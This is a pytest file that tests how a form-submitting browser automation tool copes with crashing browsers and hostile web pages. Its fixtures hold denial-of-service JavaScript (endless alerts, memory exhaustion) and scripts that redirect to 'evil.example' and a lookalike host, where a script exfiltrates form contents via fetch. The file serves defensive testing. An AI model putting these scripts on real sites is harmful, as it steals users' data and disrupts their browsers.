"""Browsers that hang or die and pages that fight: bounded, the right status, and the next objection goes through."""

from __future__ import annotations

import asyncio
import os
import signal
import sys
from collections.abc import AsyncIterator, Sequence
from datetime import datetime
from pathlib import Path

import pytest
import pytest_asyncio

from objector.channels import process as process_module
from objector.channels.process import BrowserChoice, BrowserProcess
from objector.channels.processes import browsers
from objector.domain.outcome import Artefact, Reason
from objector.domain.submission import Status, Submission
from objector.ledger.store import Ledger
from tests.build_recipe import HOST
from tests.channels.pages import Page, Pages, Received, a_page, serving, thanks
from tests.engine.hostile import ADDRESSES, Came, Hostile, the_form, two_objections

pytestmark = [
    pytest.mark.asyncio(loop_scope="session"),
    pytest.mark.skipif(sys.platform != "linux", reason="reads /proc to find the browser"),
]
ELSEWHERE = "evil.example"
HANG_GUARD = 150.0
"""Seconds after which a run counts as endless, on however slow a machine."""
GROWTH = 256 * 1024
"""Kilobytes that the program itself may grow by while a page takes all that it gets."""

HONEST = {
    Status.DELIVERED: {1},
    Status.UNCONFIRMED: {0, 1},
    Status.WAITING: {0},
    Status.NEEDS_PERSON: {0},
}
"""How often the portal may have got an objection with this status."""
SENT = (Status.DELIVERED, Reason.CONFIRMED, 1)
LATER = (Status.WAITING, Reason.UNREACHABLE, 0)
LOST = (Status.UNCONFIRMED, Reason.CONNECTION_LOST, 1)
UNCHANGED = (Status.UNCONFIRMED, Reason.PAGE_UNCHANGED, 1)


@pytest_asyncio.fixture(scope="module", loop_scope="session")
async def site() -> AsyncIterator[tuple[Pages, BrowserProcess]]:
    """A portal, and a browser of its own whose pages get little memory."""
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(process_module, "HEAP_MEGABYTES", 128)
        async with serving() as pages:
            choice = BrowserChoice(host_rules=f"MAP * 127.0.0.1:{pages.port}")
            async with BrowserProcess(choice, rehearsal=True) as process:
                yield pages, process


@pytest_asyncio.fixture(loop_scope="session")
async def hostile(
    site: tuple[Pages, BrowserProcess], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> AsyncIterator[Hostile]:
    """Two objections to that portal. No pulse ends what hangs: everything must be bounded without it, too."""
    monkeypatch.setattr(process_module, "PULSE_SECONDS", HANG_GUARD)
    monkeypatch.setattr(process_module, "HANGING_SECONDS", 3.0)
    monkeypatch.setattr(process_module, "ENDING_SECONDS", 1.0)
    async with asyncio.timeout(HANG_GUARD), two_objections(*site, tmp_path) as hostile:
        yield hostile


def strike(process: BrowserProcess, blow: signal.Signals) -> None:
    """The browser gets this signal."""
    assert process._folder is not None
    for pid in browsers(process._folder.mark):
        os.kill(pid, blow)


def _own_memory() -> int:
    """Kilobytes that this program holds."""
    (line,) = [one for one in Path("/proc/self/status").read_text().splitlines() if one.startswith("VmRSS")]
    return int(line.split()[1])


async def well(hostile: Hostile) -> Came:
    """What became of the first objection, which is honest. The second was delivered, and nothing went elsewhere."""
    before = _own_memory()
    first, second = await hostile.run()
    assert second.end == SENT, second
    assert _own_memory() - before < GROWTH
    assert first.arrived in HONEST[first.submission.status], first
    for one in hostile.pages.received:
        if one.host != HOST:
            told = f"{one.path}?{one.query} {one.body!r} {one.headers}"
            assert one.method == "GET"
            assert not [value for value in (*ADDRESSES, "illness") if value in told]
    return first


@pytest.mark.parametrize("blow", [signal.SIGSTOP, signal.SIGKILL], ids=["hangs", "is killed"])
@pytest.mark.parametrize("when", ["while the form opens", "past the point of no return", "once it has sent"])
async def test_a_browser_that(
    hostile: Hostile, monkeypatch: pytest.MonkeyPatch, blow: signal.Signals, when: str
) -> None:
    """What surely was not sent is tried again, what may have been is unconfirmed; the next gets a new browser."""

    async def form(_: Received) -> Page:
        strike(hostile.process, blow)
        return Page(html=the_form())

    async def answer(_: Received) -> Page:
        strike(hostile.process, blow)
        return Page(html=thanks())

    mark = Ledger.mark_sending

    async def marked(ledger: Ledger, submission: Submission, kept: Sequence[Artefact], now: datetime) -> None:
        await mark(ledger, submission, kept, now)
        monkeypatch.setattr(Ledger, "mark_sending", mark)
        strike(hostile.process, blow)

    if blow is signal.SIGSTOP:
        hostile.hurry()
    if when == "while the form opens":
        hostile.pages.put(form)
    elif when == "once it has sent":
        hostile.pages.put(answer, path="/done", method="POST")
    else:
        monkeypatch.setattr(Ledger, "mark_sending", marked)
    first = await well(hostile)
    if when == "while the form opens":
        assert first.end == LATER
    else:
        assert first.end == (Status.UNCONFIRMED, Reason.CONNECTION_LOST, int(when == "once it has sent"))


def script(code: str) -> str:
    """The form, and this script."""
    return the_form(head=f"<script>{code}</script>")


FIGHTING = {
    "alerts without end": (script("for (;;) { alert(1); confirm(2); prompt(3) }"), LATER),
    "alerts now and then": (script("setInterval(() => { alert(1); confirm(2); prompt(3) }, 50)"), None),
    "asks whether to leave": (script("onbeforeunload = (e) => { e.preventDefault(); return 'stay' }"), SENT),
    "opens windows": (script("setInterval(() => open('/object'), 5)"), None),
    "downloads": (script("setInterval(() => { location = '/file' }, 100)"), None),
    "writes history": (script("let n = 0; setInterval(() => history.pushState(n, '', '/object?' + n++), 10)"), None),
    "fills its memory": (script("const a = []; for (;;) a.push(new Array(10000).fill(Math.random()))"), LATER),
    "grows without end": (script("setInterval(() => document.body.append('x '.repeat(20000)), 1)"), None),
    "has 100,000 inputs": (the_form().replace("</body>", "<input>" * 100_000 + "</body>"), None),
    "has a huge text": (the_form().replace("</body>", f"<p>{'word ' * 4_000_000}</p></body>"), None),
}  # fmt: skip


@pytest.mark.parametrize(("markup", "end"), FIGHTING.values(), ids=FIGHTING.keys())
async def test_a_page_that(hostile: Hostile, markup: str, end: tuple[Status, Reason, int] | None) -> None:
    """Whatever a page does: sent once or not at all, the status says which, and the next objection is not harmed.

    Without an end, it is a race: between the page and the button, or between the page and the patience.
    """
    if end != SENT:
        hostile.hurry()
    hostile.pages.put(markup)
    hostile.pages.put(Page(html="x", headers={"Content-Disposition": "attachment; filename=x.bin"}), path="/file")
    first = await well(hostile)
    assert end is None or first.end == end


ANSWERS = {
    "a download": (Page(html="x", headers={"Content-Disposition": "attachment; filename=x.bin"}), UNCHANGED),
    "a stream without end": (Page(html="<p>Working", endless="<p>" + "still working " * 500), None),
    "a page elsewhere": (Page(status=302, headers={"Location": f"https://{ELSEWHERE}/thanks"}), None),
    "a page that fills its memory": (
        Page(html=a_page("<script>const a = []; for (;;) a.push(new Array(9999).fill(Math.random()))</script>")), None,
    ),
}  # fmt: skip


@pytest.mark.parametrize(("answer", "end"), ANSWERS.values(), ids=ANSWERS.keys())
async def test_an_answer_that_is(hostile: Hostile, answer: Page, end: tuple[Status, Reason, int] | None) -> None:
    """It was sent, once, and nothing confirms it: unconfirmed."""
    hostile.hurry()
    hostile.pages.put(answer, path="/done", method="POST")
    hostile.pages.put(thanks(), path="/thanks", host=ELSEWHERE)
    first = await well(hostile)
    assert (first.submission.status, first.arrived) == (Status.UNCONFIRMED, 1), first
    assert end is None or first.end == end


MOVING = {
    "once the address is typed": "e.oninput = () => { location = 'https://evil.example/object' }",
    "at the first key of the text": "g.onfocus = () => { location = 'https://evil.example/object' }",
    "to a name that looks the same": "g.oninput = () => { location = 'https://form.example.evil.example/object' }",
    "by itself": "setTimeout(() => { location = 'https://evil.example/object' }, 150)",
}


@pytest.mark.parametrize("code", MOVING.values(), ids=MOVING.keys())
async def test_a_page_that_moves_to_another_host(hostile: Hostile, code: str) -> None:
    """Nothing is typed there and nothing sent, though the page there is the very same form.

    A person is asked; where the page went away under a touch of it, once more after a while.
    """
    hostile.pages.put(the_form(button=f"<button>Submit</button><script>{code}</script>"))
    for host in (ELSEWHERE, f"{HOST}.{ELSEWHERE}"):
        spying = "setInterval(() => fetch('/spy?' + new URLSearchParams(new FormData(document.forms[0]))), 20)"
        hostile.pages.put(script(spying), host=host)
    first = await well(hostile)
    assert first.end in ((Status.NEEDS_PERSON, Reason.FOREIGN_PAGE, 0), LATER)
    assert [one for one in hostile.pages.received if ELSEWHERE in one.host], "the precondition: it went there"


async def test_a_form_that_answers_in_a_new_window(hostile: Hostile) -> None:
    """The window is closed unread: it arrived once, and is unconfirmed."""
    hostile.hurry()
    hostile.pages.put(the_form().replace("<form ", '<form target="_blank" '))
    assert (await well(hostile)).end == UNCHANGED
